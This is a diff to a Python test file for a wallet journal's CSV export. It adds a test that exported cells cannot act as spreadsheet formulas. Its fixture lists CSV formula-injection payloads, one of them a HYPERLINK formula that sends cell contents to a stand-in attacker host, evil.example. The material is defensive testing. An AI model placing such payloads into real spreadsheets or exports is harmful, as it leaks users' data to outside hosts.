@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 import secrets
 from dataclasses import asdict
 from pathlib import Path
@@ -11,7 +14,7 @@ import pytest
 
 from aggregation.wire.secret import Secret
 from wallets.agent import journal, vault
-from wallets.agent.journal import Journal, Kind
+from wallets.agent.journal import Entry, Journal, Kind
 
 
 @pytest.fixture
@@ -73,6 +76,49 @@ async def test_a_deleted_entry_keeps_its_place_and_the_chain(store: vault.AskarS
 async def test_exports_hold_every_entry(store: vault.AskarStore) -> None:
     entries = await (await filled(store)).entries()
     assert [line["seq"] for line in json.loads(journal.export_json(entries))] == [0, 1, 2, 3]
-    lines = journal.export_csv(entries).splitlines()
-    assert len(lines) == 5
-    assert lines[0].startswith("seq,at,kind")
+    lines = list(csv.DictReader(io.StringIO(journal.export_csv(entries))))
+    assert [line["seq"] for line in lines] == ["0", "1", "2", "3"]
+    assert lines[2] == {name: str(value) for name, value in asdict(entries[2]).items()} | {"deleted": "false"}
+
+
+def strange_entries() -> list[Entry]:
+    """What strangers could have put into a wallet's journal so that a spreadsheet computes it."""
+    texts = (
+        *(
+            '=HYPERLINK("https://evil.example/?"&A1)',
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+        ),
+        *(
+            "  =1+1",
+            "＝1+1",
+            "＋1",
+            "－1",
+            "＠A1",
+            "fine;=1+1",
+            "fine\t=1+1",
+            'he said ","=1+1',
+            "two\r\nlines",
+            "",
+        ),
+    )
+    return [
+        Entry(seq=number, at=number, kind="refused", sentence=text, code=text, collective_id=text, amount="7")
+        for number, text in enumerate(texts)
+    ]
+
+
+def test_no_cell_of_the_csv_is_a_formula() -> None:
+    entries = strange_entries()
+    text = journal.export_csv(entries)
+    for separator in ",;\t":  # spreadsheets split by what is usual where they run, whatever the quotes say
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+            assert not any(re.match(r'[\s"]*[=+\-@＝＋－＠]', cell) for cell in row), (separator, row)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    said = [(entry.sentence, row["sentence"]) for entry, row in zip(entries, rows, strict=True)]
+    assert [now.replace("'", "") for _, now in said] == [was for was, _ in said]
+    assert [was for was, now in said if was == now] == ['he said ","=1+1', "two\r\nlines", ""]
